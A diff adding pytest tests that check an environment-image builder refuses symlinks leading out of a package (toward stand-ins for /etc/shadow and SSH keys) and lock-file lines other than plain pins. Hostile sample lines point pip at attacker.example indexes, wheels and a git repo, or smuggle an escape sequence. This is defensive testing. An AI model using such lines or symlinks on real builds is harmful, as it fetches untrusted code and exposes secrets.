@@ -298,3 +298,139 @@ def test_a_no_deps_name_the_lock_does_not_pin_is_an_error():
     assert _split_no_deps(("a==1", "b-c==2"), ("B_C",)) == (("a==1",), ("b-c==2",))
     with pytest.raises(ValueError, match="tool.epg.no_deps names d, which requirements.lock does not pin"):
         _split_no_deps(("a==1",), ("d",))
+
+
+# an environment package written by someone else: its links and its lock
+
+
+def hostile_package(tmp_path: Path, lock: str = "gymnasium==1.4.0\n") -> Path:
+    """A package whose module is ordinary; the tests below add a link or a lock line to it."""
+    root = tmp_path / "envs" / "hostile"
+    (root / "epg_env_hostile").mkdir(parents=True)
+    (root / "pyproject.toml").write_text(
+        '[project]\nname = "epg-env-hostile"\nversion = "0.1.0"\n\n'
+        '[tool.epg]\nimage = "env-hostile"\nmodule = "epg_env_hostile"\n\n'
+        '[project.entry-points."epg.benchmarks"]\n"Hostile-v0" = "epg_env_hostile:make_benchmark"\n'
+    )
+    (root / "epg_env_hostile" / "__init__.py").write_text("def make_benchmark():\n    pass\n")
+    (root / "requirements.lock").write_text(lock)
+    (tmp_path / "secret").write_text("root:$y$hash:19000:0:99999:7:::\n")  # stands for /etc/shadow or ~/.ssh/id_ed25519
+    return root
+
+
+def only_package(root: Path):
+    (package,) = discover([root.parent])
+    return package
+
+
+@pytest.mark.parametrize("link", ["epg_env_hostile/shadow", "epg_env_hostile/data/key", "README.md"])
+def test_a_package_file_linked_out_of_the_package_is_refused_naming_it(tmp_path, link):
+    from orchestrator.images.builder import ImageBuilder
+    from orchestrator.images.catalogue import CatalogueError
+
+    root = hostile_package(tmp_path)
+    (root / link).parent.mkdir(parents=True, exist_ok=True)
+    (root / link).symlink_to(tmp_path / "secret")
+    with pytest.raises(CatalogueError, match=re.escape(f"{root / link} leads out of the package")):
+        environment_recipe(only_package(root))
+    with pytest.raises(CatalogueError, match=re.escape(str(root / link))):  # what images build/context/env test ask first
+        ImageBuilder(None, environments=[root.parent]).recipes()
+
+
+def test_a_module_directory_linked_out_of_the_package_is_refused(tmp_path):
+    from orchestrator.images.catalogue import CatalogueError
+
+    root = hostile_package(tmp_path)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    (root / "epg_env_hostile" / "keys").symlink_to(outside, target_is_directory=True)
+    (root / "epg_env_hostile" / "more").mkdir()
+    (root / "epg_env_hostile" / "more" / "k").symlink_to(outside / "id_ed25519")
+    with pytest.raises(CatalogueError, match="leads out of the package"):
+        environment_recipe(only_package(root))
+
+
+def test_a_link_inside_the_package_is_copied_as_the_file_it_names(tmp_path):
+    root = hostile_package(tmp_path)
+    (root / "epg_env_hostile" / "alias.py").symlink_to(root / "epg_env_hostile" / "__init__.py")
+    (root / "README.md").write_text("# hostile\n")
+    recipe = environment_recipe(only_package(root))
+    assert recipe.files["epg_env_hostile/alias.py"] == (root / "epg_env_hostile" / "__init__.py").resolve()
+    assert recipe.files["epg_env_hostile/README.md"] == (root / "README.md").resolve()
+    assert not any(path == (tmp_path / "secret").resolve() for path in recipe.files.values())
+
+
+def test_a_lock_linked_out_of_the_package_is_refused(tmp_path):
+    from orchestrator.images.catalogue import CatalogueError
+
+    root = hostile_package(tmp_path)
+    (root / "requirements.lock").unlink()
+    (tmp_path / "other.lock").write_text("numpy==2.4.6\n")
+    (root / "requirements.lock").symlink_to(tmp_path / "other.lock")
+    with pytest.raises(CatalogueError, match=re.escape(f"{root / 'requirements.lock'} leads out of the package")):
+        environment_recipe(only_package(root))
+
+
+def test_the_builder_refuses_a_recipe_file_swapped_for_a_link_after_the_recipe(tmp_path):
+    from orchestrator.images.builder import _copy_regular_file
+    from orchestrator.images.catalogue import CatalogueError
+
+    root = hostile_package(tmp_path)
+    recipe = environment_recipe(only_package(root))
+    source = recipe.files["epg_env_hostile/__init__.py"]
+    _copy_regular_file(source, tmp_path / "copied.py")
+    assert (tmp_path / "copied.py").read_bytes() == source.read_bytes()
+    source.unlink()
+    source.symlink_to(tmp_path / "secret")
+    with pytest.raises(CatalogueError, match="became a symbolic link"):
+        _copy_regular_file(source, tmp_path / "copied-again.py")
+    assert not (tmp_path / "copied-again.py").exists()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "-f http://attacker.example/wheels",
+        "--find-links=http://attacker.example/wheels",
+        "--index-url http://attacker.example/simple",
+        "--extra-index-url=http://attacker.example/simple",
+        "--trusted-host attacker.example",
+        "-i http://attacker.example/simple",
+        "-e .",
+        "-e git+https://attacker.example/x.git#egg=x",
+        "-r ../../other.txt",
+        "-c constraints.txt",
+        "numpy==2.4.6 -f http://attacker.example/",
+        "numpy==2.4.6 --hash=sha256:0000",
+        "x @ https://attacker.example/x-1.0-py3-none-any.whl",
+        "https://attacker.example/x-1.0-py3-none-any.whl",
+        "./local/package",
+        "numpy>=2",
+        "numpy",
+        "numpy==2.*",
+        'numpy==2.4.6; python_version >= "3"',
+        "numpy==2.4.6\x1b[2J",
+    ],
+)
+def test_a_lock_line_other_than_a_plain_pin_is_refused_naming_the_line(tmp_path, line):
+    from orchestrator.images.catalogue import CatalogueError
+
+    root = hostile_package(tmp_path, lock=f"# pins\ngymnasium==1.4.0\n\n{line}\n")
+    with pytest.raises(CatalogueError) as raised:
+        environment_recipe(only_package(root))
+    message = str(raised.value)
+    assert message.startswith(f"{root / 'requirements.lock'}:4: {line.strip()!r} is not a plain pinned requirement")
+
+
+def test_plain_pins_with_extras_comments_and_blank_lines_are_accepted(tmp_path):
+    lock = "# a comment\n\ngymnasium[classic-control]==1.4.0\n  Farama_Notifications == 0.0.6   # why this pin\ncloudpickle==3.1.3\n"
+    recipe = environment_recipe(only_package(hostile_package(tmp_path, lock=lock)))
+    assert "gymnasium[classic-control]==1.4.0" in recipe.requirements
+    assert "farama-notifications==0.0.6" in recipe.requirements and "cloudpickle==3.1.3" in recipe.requirements
+    assert all(not r.startswith("-") and "#" not in r and " " not in r for r in recipe.requirements)
+
+
+def test_every_lock_of_the_repository_is_plain_pins():
+    for package in discover([REPO_ROOT / "environments", REPO_ROOT / "tests" / "environments"]):
+        assert all("==" in requirement for requirement in environment_recipe(package).requirements)
